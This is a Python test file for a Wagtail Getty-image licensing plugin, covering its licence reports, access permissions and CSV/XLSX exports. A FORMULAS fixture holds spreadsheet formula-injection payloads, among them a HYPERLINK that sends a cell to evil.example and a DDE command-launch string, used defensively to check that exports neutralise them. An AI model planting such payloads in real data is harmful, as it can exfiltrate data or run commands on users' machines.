"""The two reports, as Wagtail's own: "Getty images awaiting licence" (pages whose latest revision
holds a comp or a licence waiting for its file, each linked to its editor) and "Getty licences"
(who, when, product, project code, where used), both exportable as CSV and XLSX; for users who
may license, with titles only of pages they may edit, and CSV cells no spreadsheet runs."""

import csv
import io

import pytest
from django.core.files.images import ImageFile
from django.core.management import call_command
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook
from support import png_bytes
from wagtail.images import get_image_model

from getty_picker.models import GettyImageUse, GettyLicence

pytestmark = pytest.mark.django_db

AWAITING = "/admin/reports/getty-picker/awaiting/"
LICENCES = "/admin/reports/getty-picker/licences/"
COMP = {"state": "selected", "id": "1234", "title": "A comp cat", "usage_restrictions": []}


def logged_in(username):
    client = Client()
    assert client.login(username=username, password=username)
    return client


@pytest.fixture
def pages(demo_data, django_user_model, django_capture_on_commit_callbacks):
    """The demo page holding a comp and a licence waiting for its file; a second page using an
    imported licence."""
    editor = django_user_model.objects.get(username="editor")
    image = get_image_model().objects.create(
        title="Kept", file=ImageFile(io.BytesIO(png_bytes()), name="kept.png")
    )
    kept = GettyLicence.objects.create(
        getty_id="555",
        title="A kept cat",
        licensed_at=timezone.now(),
        licensed_by=editor,
        product_type="premiumaccess",
        product_name="Premium Access",
        agreement_name="Marketing 2026",
        project_code="WEB-HOME",
        credit_line="Ann Lee / Getty Images",
        usage_restrictions=["No use in advertising"],
        image=image,
    )
    waiting = GettyLicence.objects.create(
        getty_id="777", title="A waiting cat", licensed_at=timezone.now(), licensed_by=editor
    )
    from home.models import HomePage

    with django_capture_on_commit_callbacks(execute=True):
        demo_data.getty_image = COMP
        demo_data.body = HomePage.body.field.stream_block.to_python(
            [{"type": "getty_image", "value": {"state": "licensed", "id": "777", "licence": waiting.pk}}]
        )
        demo_data.save_revision()
        other = demo_data.add_child(instance=HomePage(title="Second page", slug="second"))
        other.getty_image = {"state": "licensed", "id": "555", "licence": kept.pk}
        other.save_revision().publish()
    return demo_data, other, kept, waiting


@pytest.mark.every_database
def test_the_index_follows_the_latest_revision(pages):
    demo, other, kept, waiting = pages
    uses = {(u.page_id, u.getty_id, u.state, u.licence_id) for u in GettyImageUse.objects.all()}
    assert uses == {
        (demo.pk, "1234", "comp", None),
        (demo.pk, "777", "licensed", waiting.pk),
        (other.pk, "555", "licensed", kept.pk),
    }
    GettyImageUse.objects.all().delete()
    call_command("getty_picker_reindex", stdout=io.StringIO())
    assert {(u.page_id, u.getty_id) for u in GettyImageUse.objects.all()} == {
        (demo.pk, "1234"),
        (demo.pk, "777"),
        (other.pk, "555"),
    }


def test_awaiting_licence_lists_pages_holding_comps_or_files_not_imported(pages):
    demo, other, _kept, _waiting = pages
    response = logged_in("editor").get(AWAITING)
    assert response.status_code == 200
    html = response.content.decode()
    assert "Getty images awaiting licence" in html
    assert f'href="/admin/pages/{demo.pk}/edit/"' in html
    assert "A comp cat (1234)" in html and "A licence: it is a comp" in html
    assert "A waiting cat (777)" in html and "Its file&#x27;s import" in html
    assert f'href="/admin/pages/{other.pk}/edit/"' not in html


def test_awaiting_licence_exports_csv_and_xlsx(pages):
    demo, _other, _kept, _waiting = pages
    client = logged_in("editor")
    response = client.get(AWAITING, {"export": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0] == ["Page", "Edit URL", "Getty id", "Getty image", "Where", "Waiting for"]
    assert sorted(row[2] for row in rows[1:]) == ["1234", "777"]
    assert all(row[1] == f"http://testserver/admin/pages/{demo.pk}/edit/" for row in rows[1:])

    response = client.get(AWAITING, {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0][:3] == ["Page", "Edit URL", "Getty id"] and len(values) == 3


def test_licences_lists_who_when_product_project_code_and_where_used(pages):
    demo, other, kept, waiting = pages
    response = logged_in("editor").get(LICENCES)
    assert response.status_code == 200
    html = response.content.decode()
    assert "A kept cat (555)" in html and "A waiting cat (777)" in html
    assert f'href="/admin/images/{kept.image_id}/"' in html
    assert "Premium Access · Marketing 2026" in html and "WEB-HOME" in html
    assert "In the image library" in html and "Not imported" in html
    assert "Second page" in html and "Getty picker demo" in html


def test_licences_export_csv_and_xlsx(pages):
    _demo, _other, kept, _waiting = pages
    client = logged_in("editor")
    response = client.get(LICENCES, {"export": "csv"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    by_id = {row["Getty id"]: row for row in rows}
    assert set(by_id) == {"555", "777"}
    row = by_id["555"]
    assert row["Licensed by"] == "editor" and row["Product"] == "Premium Access"
    assert row["Agreement"] == "Marketing 2026" and row["Project code"] == "WEB-HOME"
    assert row["Where used"] == "Second page" and row["File"] == "In the image library"
    assert row["Usage restrictions"] == "No use in advertising"
    assert row["Licensed at"].startswith(kept.licensed_at.strftime("%Y-%m-%d"))
    assert by_id["777"]["Where used"] == "Getty picker demo"

    response = client.get(LICENCES, {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet.max_row == 3


def test_the_reports_are_in_the_reports_menu_for_users_who_may_license_only(pages, django_user_model):
    client = logged_in("editor")
    for url in (AWAITING, LICENCES):
        assert client.get(url).status_code == 200, url
    home = client.get("/admin/").content.decode()
    assert AWAITING in home and LICENCES in home

    from django.contrib.auth.models import Group

    reader = django_user_model.objects.create_user("reader", password="reader")
    reader.groups.set([Group.objects.get(name="Editors")])
    # The writer may search and choose (search_image), not license: no reports either.
    for username in ("reader", "writer"):
        client = logged_in(username)
        for url in (AWAITING, LICENCES, f"{LICENCES}?export=csv", f"{AWAITING}?export=xlsx"):
            response = client.get(url)
            assert response.status_code == 302 and response["Location"] == "/admin/", (username, url)
        home = client.get("/admin/").content.decode()
        assert AWAITING not in home and LICENCES not in home, username


@pytest.fixture
def auditor(pages, django_user_model):
    """May use the admin and license Getty images, and edit no page."""
    from django.contrib.auth.models import Permission

    user = django_user_model.objects.create_user("auditor", password="auditor")
    user.user_permissions.add(
        Permission.objects.get(codename="access_admin"), Permission.objects.get(codename="license_image")
    )
    return logged_in("auditor")


def test_the_licences_report_counts_pages_the_user_may_not_edit_without_their_titles(pages, auditor):
    demo, other, kept, waiting = pages
    html = auditor.get(LICENCES).content.decode()
    assert "A kept cat (555)" in html and "1 page you may not edit" in html
    assert "Second page" not in html and "Getty picker demo" not in html
    rows = list(
        csv.DictReader(
            io.StringIO(b"".join(auditor.get(LICENCES, {"export": "csv"}).streaming_content).decode())
        )
    )
    assert {row["Getty id"]: row["Where used"] for row in rows} == {
        "555": "1 page you may not edit",
        "777": "1 page you may not edit",
    }
    # The awaiting report lists pages to edit: none for this user.
    html = auditor.get(AWAITING).content.decode()
    assert "A comp cat" not in html and "No page holds a Getty comp" in html


FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "project_code": "@SUM(1+1)",
    "download_notes": "+cmd|' /C calc'!A0",
    "credit_line": "-2+3",
    "product_name": "\tTabbed",
    "agreement_name": "\rReturned",
}


def test_csv_exports_neutralise_cells_a_spreadsheet_would_run(pages):
    demo, other, kept, waiting = pages
    GettyLicence.objects.filter(pk=kept.pk).update(**FORMULAS)
    other.title = "=1+1"
    other.save_revision().publish()
    client = logged_in("editor")

    response = client.get(LICENCES, {"export": "csv"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    row = next(row for row in rows if row["Getty id"] == "555")
    shown = {
        "title": row["Title"],
        "project_code": row["Project code"],
        "download_notes": row["Download notes"],
        "credit_line": row["Credit line"],
        "product_name": row["Product"],
        "agreement_name": row["Agreement"],
    }
    assert shown == {name: f"'{value}" for name, value in FORMULAS.items()}
    assert row["Where used"] == "'=1+1"
    # Cells that only look like numbers or text stay as they are.
    assert row["Getty id"] == "555" and row["Licensed by"] == "editor"

    response = client.get(AWAITING, {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    assert rows[1][0] == "Getty picker demo"
    GettyImageUse.objects.filter(page=demo).update(title="@A1")
    rows = list(
        csv.reader(
            io.StringIO(
                b"".join(client.get(AWAITING, {"export": "csv"}).streaming_content).decode(), newline=""
            )
        )
    )
    assert {row[3] for row in rows[1:]} == {"'@A1"}


def test_xlsx_exports_keep_such_cells_as_text(pages):
    _demo, _other, kept, _waiting = pages
    GettyLicence.objects.filter(pk=kept.pk).update(**FORMULAS)
    response = logged_in("editor").get(LICENCES, {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    headings, rows = values[0], values[1:]
    row = dict(zip(headings, next(r for r in rows if r[0] == "555"), strict=True))
    assert row["Title"] == FORMULAS["title"] and row["Project code"] == FORMULAS["project_code"]
    assert all(cell.data_type != "f" for r in sheet.iter_rows() for cell in r)


@pytest.fixture
def chosen(pages, django_capture_on_commit_callbacks):
    """A third page using the kept licence's library image the way Wagtail's own choosers put it
    there (the image chooser's Getty tab): the image ForeignKey, an image block and a rich-text
    image; its image is Getty's, so the index and the reports count it."""
    from home.models import HomePage

    demo, _other, kept, _waiting = pages
    image_id = kept.image_id
    with django_capture_on_commit_callbacks(execute=True):
        third = demo.add_child(instance=HomePage(title="Third page", slug="third"))
        third.photo_id = image_id
        third.body = HomePage.body.field.stream_block.to_python(
            [
                {"type": "photo", "value": image_id},
                {
                    "type": "paragraph",
                    "value": f'<embed embedtype="image" id="{image_id}" format="left" alt="x"/>',
                },
            ]
        )
        third.save_revision().publish()
    return third


def test_the_index_counts_library_images_from_getty_wherever_wagtails_choosers_put_them(
    pages, chosen, django_capture_on_commit_callbacks
):
    _demo, _other, kept, _waiting = pages
    uses = GettyImageUse.objects.filter(page=chosen)
    assert sorted((u.where, u.getty_id, u.state, u.licence_id) for u in uses) == [
        ("Body › Paragraph", "555", "licensed", kept.pk),
        ("Body › Photo", "555", "licensed", kept.pk),
        ("Photo", "555", "licensed", kept.pk),
    ]
    # An image of the site's own is not Getty's: no row for it.
    own = get_image_model().objects.create(
        title="Own", file=ImageFile(io.BytesIO(png_bytes()), name="own.png")
    )
    chosen.photo = own
    with django_capture_on_commit_callbacks(execute=True):
        chosen.save_revision()
    assert "Photo" not in {u.where for u in GettyImageUse.objects.filter(page=chosen)}
    GettyImageUse.objects.all().delete()
    call_command("getty_picker_reindex", stdout=io.StringIO())
    assert {u.where for u in GettyImageUse.objects.filter(page=chosen)} == {
        "Body › Paragraph",
        "Body › Photo",
    }


def test_the_licences_report_counts_pages_using_the_image_through_wagtails_choosers(pages, chosen):
    response = logged_in("editor").get(LICENCES, {"export": "csv"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    by_id = {row["Getty id"]: row for row in rows}
    assert by_id["555"]["Where used"] == "Second page, Third page"
    # Licensed and in the library: nothing awaits a licence there.
    html = logged_in("editor").get(AWAITING).content.decode()
    assert f'href="/admin/pages/{chosen.pk}/edit/"' not in html


def test_wagtails_usage_counts_the_pages_choosing_a_getty_image(pages, chosen):
    from wagtail.models import ReferenceIndex

    _demo, other, kept, _waiting = pages
    # The Getty field's page and the chooser's page (its three places grouped as one page).
    assert ReferenceIndex.get_grouped_references_to(kept.image).count() == 2
    html = logged_in("editor").get(f"/admin/images/{kept.image_id}/").content.decode()
    assert "Used 2 times" in html
    usage = logged_in("editor").get(f"/admin/images/usage/{kept.image_id}/").content.decode()
    assert "Third page" in usage and "Second page" in usage
